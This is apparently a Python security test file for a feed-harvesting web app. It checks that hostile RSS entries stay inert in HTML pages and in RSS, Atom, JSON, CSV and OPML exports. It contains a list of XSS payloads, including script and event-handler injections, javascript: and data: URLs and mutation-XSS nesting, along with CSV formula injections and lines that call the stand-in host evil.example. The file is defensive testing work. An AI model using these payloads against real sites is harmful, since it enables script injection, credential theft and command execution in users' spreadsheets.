"""What feeds say stays words: in no form that goes out does any of it live (F8).

Each attack carries a mark. A mark may stand in text and in harmless attributes; it lives where a browser or another
program would act on it: in a tag, in an address that is no web address, in a script, a style or a handler.
"""

import csv
import io
import xml.etree.ElementTree as ET
from datetime import UTC, datetime
from html.parser import HTMLParser
from xml.sax.saxutils import escape

import pytest

from engage.lists import from_inbox
from engage.lists.rules import Visibility
from engage.outside.fetch import Door
from engage.resources.harvest import harvest_due, hash_of_address
from engage.resources.incoming_models import InboxEntry, Source
from engage.resources.models import Resource
from tests import data, make
from tests.faults.hostile import hostile

NOW = datetime(2026, 11, 13, 12, 0, 0, tzinfo=UTC)
MARK = "zqx"
TEXTS = [
    f"<script>{MARK}(1)</script>",
    f"<img src=x onerror={MARK}(1)>",
    f'"><svg onload={MARK}(1)>',
    f"'-{MARK}(1)-'",
    f"</title><script>{MARK}(1)</script>",
    f"</textarea><iframe srcdoc='<script>{MARK}(1)</script>'>",
    f'<a href="javascript:{MARK}(1)">a</a>',
    f'<a href="java&#9;script:{MARK}(1)">a</a>',
    f'<a href=" &#14; javascript:{MARK}(1)">a</a>',
    f'<a href="data:text/html,<script>{MARK}(1)</script>">a</a>',
    f"<math><mtext><table><mglyph><style><img src onerror={MARK}(1)></style></mglyph></table></mtext></math>",
    f"<svg><animate xlink:href=#x attributeName=href values=javascript:{MARK}(1) /></svg>",
    f"<form action=//evil.example/{MARK}><input type=password name={MARK}></form>",
    f"<style>@import url(//evil.example/{MARK});</style>",
    f"<div style='background:url(//evil.example/{MARK})'>d</div>",
    f"<link rel=stylesheet href=//evil.example/{MARK}><meta http-equiv=refresh content='0;url=//evil.example/{MARK}'>",
    f"<base href=//evil.example/{MARK}/><object data=//evil.example/{MARK}></object>",
    f"<noscript><p title='</noscript><img src=x onerror={MARK}(1)>'>",
    f"{{{{ {MARK} }}}}{{% include '{MARK}' %}}${{{MARK}}}<%= {MARK} %>",
    f"]]><script>{MARK}(1)</script><![CDATA[",
    f"--><script>{MARK}(1)</script><!--",
    f"&lt;script&gt;{MARK}(1)&lt;/script&gt;",
    f'=HYPERLINK("http://evil.example/{MARK}")',
    f"+cmd|'/c {MARK}'!A1",
    f"@SUM({MARK})",
]
ADDRESSES = [
    f"javascript:{MARK}(1)",
    f"data:text/html,{MARK}",
    f"vbscript:{MARK}",
    f'http://example.com/"onmouseover="{MARK}(1)',
    f"http://example.com/'><script>{MARK}(1)</script>",
    f"file:///{MARK}",
]
ACTS = {
    *(
        "href",
        "src",
        "srcset",
        "action",
        "formaction",
        "data",
        "poster",
        "xlink:href",
        "background",
        "cite",
        "manifest",
    ),
    *("values", "to"),
}
LIVING = {"script", "style", "iframe", "object", "embed", "base", "meta", "link", "noscript", "template"}


class Living(HTMLParser):
    """Finds what of the marks lives in a page."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.inside: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if MARK in tag:
            self.found.append(f"<{tag}>")
        for name, text in attrs:
            value = (text or "").lower()
            bad = MARK in name or (MARK in value and (name.startswith("on") or name in ("style", "srcdoc")))
            if name in ACTS and MARK in value:
                bad = bad or not value.strip().startswith(("https://", "http://", "/"))
                bad = bad or tag not in ("a", "option")
            if bad or (tag in LIVING and MARK in value and (tag, name) != ("meta", "content")):
                self.found.append(f"<{tag} {name}={value!r}>")
        # facts for machines are no program; the first </script> in them would end them, and what follows be seen
        facts = ("type", "application/ld+json") in attrs
        if tag in ("script", "style", "iframe", "noscript") and not facts:
            self.inside.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if self.inside and self.inside[-1] == tag:
            self.inside.pop()

    def handle_data(self, text: str) -> None:
        if self.inside and MARK in text:
            self.found.append(f"in <{self.inside[-1]}>: {text[:80]!r}")


def lives(text: str) -> list[str]:
    return Living(text).found


def attack(number: int, text: str, address: str) -> str:
    """An entry that says the same in each of its fields, as markup and as text."""
    said, link = escape(text), escape(address, {'"': "&quot;"})
    twice = escape(said)
    return f"""<item><title>{said} {number}</title><guid isPermaLink="false">{number} {said}</guid><link>{link}</link>
<author>{said}</author><dc:creator>{said}</dc:creator><category>{said}</category><comments>{link}</comments>
<description>{said}{twice}</description><content:encoded>{said}</content:encoded><media:title>{said}</media:title>
<media:description type="html">{said}</media:description><media:thumbnail url="{link}"/>
<enclosure url="{link}" type="audio/mpeg" length="1"/><itunes:author>{said}</itunes:author>
<itunes:summary>{said}</itunes:summary><source url="{link}">{said}</source></item>"""


def feed_of_attacks() -> bytes:
    items = [attack(number, text, ADDRESSES[number % len(ADDRESSES)]) for number, text in enumerate(TEXTS)]
    return f"""<?xml version="1.0"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"
 xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:media="http://search.yahoo.com/mrss/"
 xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd"><channel><title>{escape(TEXTS[0])}</title>
<link>javascript:{MARK}(1)</link><description>{escape(TEXTS[1])}</description><language>{escape(TEXTS[2])}</language>
<itunes:author>{escape(TEXTS[1])}</itunes:author>{"".join(items)}</channel></rss>""".encode()


async def harvested(school, cage, *bodies: bytes) -> list[str]:
    """The keys of all entries of some feeds, in the inbox."""
    async with hostile() as server:
        for number, body in enumerate(bodies):
            server.extra[f"/{number}.xml"] = "application/rss+xml", body
            url = f"{server.base}/{number}.xml"
            await Source.create(school_id=school.card.id, url=url, url_hash=hash_of_address(url), next_visit_at=NOW)
        await harvest_due(Door(server.pairs), cage, NOW)
    rows = InboxEntry.filter(school_id=school.card.id).order_by("id")
    return list(await rows.values_list("key", flat=True))


@pytest.mark.parametrize("text", TEXTS[:3] + TEXTS[4:17])
def test_an_attack_that_were_let_through_would_be_found(text):
    assert lives(f"<p>{text}</p>")


async def test_the_words_of_a_hostile_feed_live_in_no_form_that_goes_out(school, cage, browser, ada):
    keys = await harvested(school, cage, feed_of_attacks())
    assert len(keys) == len(TEXTS)
    curated = await make.curated_list(ada, "Tales", published=True, visibility=Visibility.PUBLIC)
    for key, note in zip(keys[:20], TEXTS[:20], strict=True):
        await from_inbox.promote({key: note}, curated.key, ada)

    asked = browser.sign_in(ada)
    pages = ["/curate/inbox", "/curate/sources", f"/lists/{curated.slug}", "/search?q=zqx"]
    resources = await Resource.filter(school_id=school.card.id).values_list("key", flat=True)
    pages += [f"/resources/{key}" for key in resources]
    marked = 0
    for page in pages:
        answer = await asked.get(page, follow_redirects=True)
        assert answer.status_code == 200, page
        marked += MARK in answer.text
        assert lives(answer.text) == [], page

    assert marked > len(pages) - 6  # some attacks are cut away whole

    for form in ("rss", "atom"):
        answer = await asked.get(f"/lists/{curated.slug}.{form}")
        assert answer.status_code == 200
        for element in ET.fromstring(answer.content).iter():
            assert MARK not in element.tag
            for said in (element.text or "", *element.attrib.values()):
                assert lives(said) == [], form
    answer = await asked.get(f"/lists/{curated.slug}.json")
    for item in answer.json()["items"]:
        assert lives(item.get("content_html", "")) == []
        assert str(item.get("url", "http://")).startswith(("http://", "https://"))
    answer = await asked.get(f"/lists/{curated.slug}.csv")
    for row in csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))):
        assert not [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")]
    answer = await asked.get("/curate/sources.opml")
    for element in ET.fromstring(answer.content).iter():
        assert [lives(value) for value in element.attrib.values() if lives(value)] == []
        assert not [value for value in element.attrib.values() if value.lower().startswith("javascript:")]


async def test_what_the_tests_of_feedparser_sanitise_is_stored_without_life(school, cage):
    bodies = [path.read_bytes() for path in sorted(data.shared("hostile-html-in-feeds").iterdir())]
    keys = await harvested(school, cage, *bodies)
    assert len(keys) > 100
    allowed = {"p", "br", "em", "strong", "ul", "ol", "li", "blockquote", "a"}
    for row in await InboxEntry.filter(school_id=school.card.id).values("title", "summary", "body", "creator", "url"):
        seen = Tags(row["body"])
        assert seen.tags <= allowed
        assert set(seen.attributes) <= {("a", "href"), ("a", "rel")}
        assert not [text for text in seen.hrefs if not text.startswith(("http://", "https://"))]
        assert row["url"].startswith(("http://", "https://")) or not row["url"]


class Tags(HTMLParser):
    """The tags, attributes and addresses of a piece of markup."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.hrefs: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _ in attrs}
        self.hrefs += [text or "" for name, text in attrs if name == "href"]
